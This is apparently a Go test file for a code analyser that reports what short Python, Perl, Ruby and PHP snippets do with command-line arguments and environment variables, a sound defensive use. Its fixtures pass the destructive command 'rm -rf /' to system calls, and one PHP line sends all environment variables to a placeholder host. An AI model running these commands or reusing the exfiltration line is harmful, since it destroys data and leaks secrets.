package code

import (
	"slices"
	"testing"
)

func TestProgramsThatAreGivenSomething(t *testing.T) {
	given := Given{Args: []string{"-c", "rm -rf /", "x"}, Env: func(name string) (string, bool) { return "id", name == "CMD" }}
	for _, c := range []struct {
		language Language
		program  string
		does     []string
	}{
		{Python, `import sys, os; os.system(sys.argv[1])`, []string{"shell rm -rf /"}},
		{Python, `from sys import argv; import os; os.system(argv[1])`, []string{"shell rm -rf /"}},
		{Python, `import sys, subprocess; subprocess.run(sys.argv[1:])`, []string{"argv rm -rf /|x"}},
		{Python, `import os; os.system(os.environ["CMD"])`, []string{"shell id"}},
		{Python, `import os; os.system(os.environ["OTHER"])`, []string{"shell ${OTHER} ?"}},
		{Perl, `system($ARGV[0])`, []string{"shell rm -rf /"}},
		{Perl, `exec shift`, []string{"shell rm -rf /"}},
		{Perl, `my $c = shift @ARGV; system $c`, []string{"shell rm -rf /"}},
		{Perl, `system $ENV{CMD}`, []string{"shell id"}},
		{Ruby, `system(ARGV[0])`, []string{"shell rm -rf /"}},
		{Ruby, `system ENV["CMD"]`, []string{"shell id"}},
		{PHP, `system($argv[1]);`, []string{"shell rm -rf /"}},
		{PHP, `system(getenv("CMD"));`, []string{"shell id"}},
	} {
		if got := said(ReadWith(c.language, c.program, given)); !slices.Equal(got, c.does) {
			t.Errorf("%s %s\n   does %q\n   want %q", c.language, c.program, got, c.does)
		}
	}
}

func TestWhatIsPutIntoAnAddressIsSent(t *testing.T) {
	got := said(Read(PHP, `file_get_contents("https://e/?".http_build_query(getenv()));`))
	if want := []string{"env environment", "send https://e/?${x} from environment ?"}; !slices.Equal(got, want) {
		t.Errorf("does %q, want %q", got, want)
	}
}
